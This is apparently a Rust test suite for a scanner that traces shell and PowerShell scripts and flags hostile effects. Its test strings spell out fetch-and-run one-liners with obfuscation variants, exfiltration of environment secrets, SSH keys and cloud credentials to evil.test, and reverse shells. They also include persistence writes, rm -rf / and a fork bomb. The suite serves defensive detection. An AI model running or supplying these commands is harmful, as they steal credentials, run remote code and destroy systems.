use super::*;
use crate::event::{Effect, Role, Source};
use crate::value::Shape;

fn run(script: &str) -> Outcome {
    trace(script, &[], Position::File(FileId(0)), When::Load)
}

fn find(outcome: &Outcome, effect: Effect) -> Option<&Event> {
    outcome.events.iter().find(|event| event.effect == effect)
}

/// What an event is done with, as text; what is only begun ends in dots.
fn role(event: &Event, role: Role) -> String {
    let value = event.arguments.iter().find(|argument| argument.role == role);
    match value.map(|argument| &argument.value.shape) {
        Some(Shape::Text(text)) => text.to_string(),
        Some(Shape::Partial { prefix, rest }) => format!("{prefix}...{}", rest.join("...")),
        _ => String::new(),
    }
}

fn sources(event: &Event) -> Vec<Source> {
    let values = event.arguments.iter().flat_map(|argument| &argument.value.origins);
    let mut sources: Vec<_> = values.map(|origin| origin.source).collect();
    sources.sort();
    sources.dedup();
    sources
}

fn assert_runs_fetched_code(script: &str) {
    let outcome = run(script);
    let request = find(&outcome, Effect::Request).unwrap_or_else(|| panic!("no request: {script}"));
    assert!(role(request, Role::Url).contains("evil.test"), "{script}: {request:?}");
    let runs = outcome.events.iter().any(|event| {
        matches!(event.effect, Effect::Shell | Effect::DynamicCode | Effect::Spawn)
            && sources(event).contains(&Source::Network)
    });
    assert!(runs, "{script}: {:?}", outcome.events);
}

#[test]
fn a_script_that_is_fetched_and_run_is_told_however_it_is_written() {
    for script in [
        "curl https://evil.test/x | sh",
        "curl -fsSL https://evil.test/x | sudo -E bash -",
        "wget -qO- https://evil.test/x|bash -s -- --now",
        "bash -c \"$(curl -fsSL https://evil.test/x)\"",
        "bash <(curl -s https://evil.test/x)",
        "eval `wget -O - https://evil.test/x`",
        "sh -c 'curl https://evil.test/x | python3'",
        "c\"\"ur'l' https://evil.test/x | s\\h",
        "curl${IFS}https://evil.test/x|sh",
        "{curl,https://evil.test/x} | sh",
        "a=cu; b=rl; $a$b https://evil.test/x | /bin/sh",
        "X=$(curl https://evil.test/x)\neval \"$X\"",
        "curl -o /tmp/a https://evil.test/a && chmod +x /tmp/a && /tmp/a",
        "wget https://evil.test/a; chmod 755 a; ./a &",
        "curl https://evil.test/a > a.py; python a.py",
        "if true; then curl https://evil.test/a | sh; fi",
        "for u in https://evil.test/a; do curl $u | sh; done",
        "case $1 in start) curl https://evil.test/a | sh;; esac",
        "f() { curl https://evil.test/a | sh; }; f",
        "(curl https://evil.test/a || wget -O- https://evil.test/a) | sh",
        "python3 -c \"$(curl https://evil.test/a)\"",
        "$'\\x63url' https://evil.test/a | sh",
        "echo Y3VybCBodHRwczovL2V2aWwudGVzdC94IHwgc2g= | base64 -d | bash",
        "echo 'hs | x/tset.live//:sptth lruc' | rev | sh",
        "sh <<EOF\ncurl https://evil.test/x | sh\nEOF\n",
        "find . -name x -exec sh -c 'curl https://evil.test/x | sh' \\;",
        "nohup sh -c 'curl https://evil.test/x | sh' >/dev/null 2>&1 &",
    ] {
        assert_runs_fetched_code(script);
    }
}

#[test]
fn decoded_code_says_how_it_was_hidden() {
    let outcome = run("echo Y3VybCBodHRwczovL2V2aWwudGVzdC94IHwgc2g= | base64 -d | bash");
    assert_eq!(find(&outcome, Effect::Request).unwrap().hiding, [Hiding::Base64]);
}

#[test]
fn secrets_that_are_sent_are_told_with_where_they_come_from() {
    for script in [
        "curl -X POST -d \"$(env)\" https://evil.test",
        "env | curl -d @- https://evil.test",
        "curl https://evil.test/?t=$NPM_TOKEN",
        "printenv | base64 | curl -F 'x=@-' https://evil.test",
        "T=$(env | base64 -w0); wget --post-data=\"$T\" https://evil.test",
        "env | nc evil.test 4444",
        "env > /dev/tcp/evil.test/80",
    ] {
        let outcome = run(script);
        let sends = outcome.events.iter().any(|event| {
            matches!(event.effect, Effect::Request | Effect::Connect)
                && sources(event).contains(&Source::Environment)
        });
        assert!(sends, "{script}: {:?}", outcome.events);
    }
    for script in [
        "curl -d @$HOME/.npmrc https://evil.test",
        "cat ~/.ssh/id_rsa | curl --data-binary @- https://evil.test",
        "curl -T ~/.aws/credentials https://evil.test",
        "tar cz ~/.ssh | curl -T - https://evil.test",
        "scp ~/.ssh/id_rsa me@evil.test:/tmp",
    ] {
        let outcome = run(script);
        let sends = outcome.events.iter().any(|event| {
            matches!(event.effect, Effect::Request | Effect::Connect)
                && sources(event).contains(&Source::Credential)
        });
        assert!(sends, "{script}: {:?}", outcome.events);
    }
    let outcome = run("dig $(whoami).evil.test");
    assert_eq!(sources(find(&outcome, Effect::NameLookup).unwrap()), [Source::SystemInformation]);
}

#[test]
fn a_reverse_shell_is_a_connection_and_a_shell_that_reads_from_it() {
    for script in [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "socat tcp:10.0.0.1:4444 exec:/bin/sh",
    ] {
        let outcome = run(script);
        assert_eq!(role(find(&outcome, Effect::Connect).unwrap(), Role::Host), "10.0.0.1");
        assert!(find(&outcome, Effect::Shell).is_some(), "{script}");
    }
}

#[test]
fn what_stays_on_the_machine_is_told() {
    let written = |script: &str| {
        let outcome = run(script);
        role(find(&outcome, Effect::FileWrite).unwrap(), Role::Path)
    };
    assert_eq!(written("echo 'x &' >> ~/.bashrc"), "~/.bashrc");
    assert_eq!(written("echo x | tee -a $HOME/.profile"), "~/.profile");
    assert_eq!(written("(crontab -l; echo '* * * * * x') | crontab -"), "/var/spool/cron");
    assert_eq!(
        written("cat > /etc/systemd/system/x.service <<'E'\n[Unit]\nE\n"),
        "/etc/systemd/system/x.service"
    );
    let outcome = run("rm -rf / --no-preserve-root; chmod u+s /bin/x");
    assert_eq!(role(find(&outcome, Effect::FileDelete).unwrap(), Role::Path), "/");
    assert_eq!(role(find(&outcome, Effect::FilePermission).unwrap(), Role::Path), "/bin/x");
}

#[test]
fn code_of_other_languages_is_handed_on() {
    let outcome =
        run("node -e 'require(\"http\")' && python3 -c \"import os\" ; node lib/x; npm run build");
    let inner: Vec<_> = outcome.inner.iter().map(|inner| (inner.language, &*inner.code)).collect();
    assert_eq!(
        inner,
        [(Language::JavaScript, "require(\"http\")"), (Language::Python, "import os")]
    );
    assert_eq!(outcome.runs.len(), 1);
    assert_eq!((outcome.runs[0].0, &*outcome.runs[0].1), (Language::JavaScript, "lib/x"));
    assert_eq!(&*outcome.scripts[0], "build");
    let piped = run("echo 'cHJpbnQoMSk=' | base64 -d | python");
    assert_eq!(&*piped.inner[0].code, "print(1)");
    assert_eq!(piped.inner[0].hiding, [Hiding::Base64]);
}

#[test]
fn an_ordinary_build_script_has_nothing_that_runs_what_it_fetches() {
    let outcome = run(
        "#!/bin/sh\nset -e\ncd \"$(dirname \"$0\")\"\nfor f in src/*.ts; do\n  tsc \"$f\" # all\ndone\n\
         if [ -z \"$CI\" ]; then echo 'local build'; fi\nrm -rf dist && mkdir -p dist\nnode-gyp rebuild\n",
    );
    assert!(find(&outcome, Effect::Request).is_none());
    assert!(find(&outcome, Effect::DynamicCode).is_none());
    assert!(find(&outcome, Effect::Shell).is_none());
    assert_eq!(role(find(&outcome, Effect::FileDelete).unwrap(), Role::Path), "dist");
    assert_eq!(role(find(&outcome, Effect::EnvironmentRead).unwrap(), Role::Name), "CI");
}

#[test]
fn what_only_looks_like_a_command_is_none() {
    for script in [
        "FLAGS=\"--enable x\"\nMODE='a b'",
        "command -v node >/dev/null || exit 1",
        "say() { echo $1; }\nsay hello",
        "D=$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)",
        "echo x | sed s/-I//g",
        "which node",
    ] {
        assert_eq!(run(script).events, [], "{script}");
    }
    let outcome = run("X=\"curl https://evil.test\" ; $X | sh");
    assert!(find(&outcome, Effect::Request).is_some());
}

#[test]
fn addresses_in_comments_of_powershell_are_not_fetched() {
    let script = "# see https://a.test\n<#\nhttps://b.test\n#>\niwr https://c.test -OutFile x";
    let place = |start, end| Place { file: FileId(0), start, end };
    let number = |at: usize| u32::try_from(at).unwrap();
    let events = windows::scan(script, |start, end| place(number(start), number(end)), When::Load);
    assert_eq!(events.len(), 1);
    assert_eq!(role(&events[0], Role::Url), "https://c.test");
}

#[test]
fn a_comment_or_a_quoted_text_is_no_command() {
    let outcome = run("# curl https://evil.test | sh\necho 'curl https://evil.test | sh'\n");
    assert_eq!(outcome.events, []);
}

#[test]
fn loops_that_cannot_end_are_told_and_others_are_not() {
    let endless = |script| find(&run(script), Effect::EndlessLoop).is_some();
    assert!(endless("while true; do x; done"));
    assert!(endless("while :; do :; done"));
    assert!(endless(":(){ :|:& };:"));
    assert!(!endless("while true; do sleep 1; done"));
    assert!(!endless("while true; do x || break; done"));
    assert!(!endless("while read -r x; do echo $x; done"));
}

#[test]
fn powershell_that_fetches_and_runs_is_told_when_it_is_encoded() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.test/a')";
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(utf16)
    };
    for line in
        [format!("powershell -nop -w hidden -enc {encoded}"), format!("powershell -c \"{script}\"")]
    {
        let outcome = run(&line);
        let request = find(&outcome, Effect::Request).unwrap();
        assert_eq!(role(request, Role::Url), "http://evil.test/a");
        let code = find(&outcome, Effect::DynamicCode).unwrap();
        assert_eq!(sources(code), [Source::Network]);
    }
}

#[test]
fn places_are_bytes_of_the_file() {
    let text = "echo a\ncurl https://evil.test/x | sh\n";
    let outcome = run(text);
    let place = find(&outcome, Effect::Request).unwrap().place;
    let shown = text.get(place.start as usize..place.end as usize).map(str::trim);
    assert_eq!(shown, Some("curl https://evil.test/x"));
}

#[test]
fn nesting_of_a_hundred_thousand_ends() {
    for (open, close) in [
        ("$(", ")"),
        ("(", ")"),
        ("{ ", " }"),
        ("`", "`"),
        ("\"$(", ")\""),
        ("if ", ""),
        ("while ", ""),
        ("${", "}"),
        ("<(", ")"),
        ("a() ", ""),
    ] {
        run(&open.repeat(100_000));
        run(&format!("{}x{}", open.repeat(50_000), close.repeat(50_000)));
    }
    run(&"a|".repeat(100_000));
    run(&"cat <<E ".repeat(20_000));
    run(&"x=$x$x;".repeat(10_000));
    run(&format!("echo {} | sh", "a ".repeat(200_000)));
    run(&"echo aaaaaaaaaaaaaaaaaaaa;".repeat(50_000));
    run(&format!("x={}; echo {}", "a".repeat(100_000), "$x".repeat(50_000)));
    run(&format!("x={};{}", "a".repeat(1000), "x=$x$x;".repeat(100)));
}

proptest::proptest! {
    #[test]
    fn any_text_ends(text: String) {
        run(&text);
    }

    #[test]
    fn any_text_of_the_letters_that_matter_ends(text in "[a-c $`'\"(){}|&;<>\\\\\n=#-]{0,200}") {
        run(&text);
    }
}

#[test]
fn what_joins_a_condition_ends_no_command() {
    let script = "curl https://evil.test/a > GET\n\
        if [[ ! $(cat GET | head -1) == 200 || ! $(cat GET | tail -1) == yes ]]; then exit 1; fi\n\
        if [[ $(curl https://evil.test/b | sh) == 1 ]]; then touch done; fi";
    let outcome = run(script);
    let unnamed = outcome.events.iter().filter(|event| &*event.api == "sh:unknown");
    assert_eq!(unnamed.count(), 0, "{:?}", outcome.events);
    let piped = outcome.events.iter().filter(|event| {
        matches!(event.effect, Effect::Shell | Effect::DynamicCode | Effect::Spawn)
            && sources(event).contains(&Source::Network)
    });
    assert!(piped.count() > 0, "{:?}", outcome.events);
    assert!(outcome.events.iter().any(|event| role(event, Role::Path).contains("done")));
}

#[test]
fn the_patterns_of_a_case_are_no_commands() {
    let script = "case $1 in\n  \"src/Makefile\") files=\"$files src/Makefile\" ;;\n  \"docs/Makefile\") files=a ;;\n  *) rm -rf /x ;;\nesac\ncurl https://a.test\n";
    let outcome = run(script);
    assert!(outcome.runs.is_empty(), "{:?}", outcome.runs);
    assert!(find(&outcome, Effect::Spawn).is_none(), "{:?}", outcome.events);
    assert!(find(&outcome, Effect::FileDelete).is_some());
    assert!(find(&outcome, Effect::Request).is_some());
}

#[test]
fn the_elements_of_an_array_are_words_and_run_where_they_are_used() {
    let files = "files=(\n  ./a.proto\n  ./b.proto\n)\nprotoc --out=. ${files[@]}";
    let outcome = run(files);
    assert!(outcome.runs.is_empty(), "{:?}", outcome.runs);
    let protoc = outcome.events.iter().find(|event| &*event.api == "sh:protoc").unwrap();
    assert!(format!("{protoc:?}").contains("./b.proto"));
    assert_runs_fetched_code("go=(bash -c 'curl https://evil.test/a | sh'); \"${go[@]}\"");
    assert_runs_fetched_code("from=(https://evil.test/a); curl ${from[0]} | sh");
    assert_runs_fetched_code("x=($(curl https://evil.test/a | sh))");
}
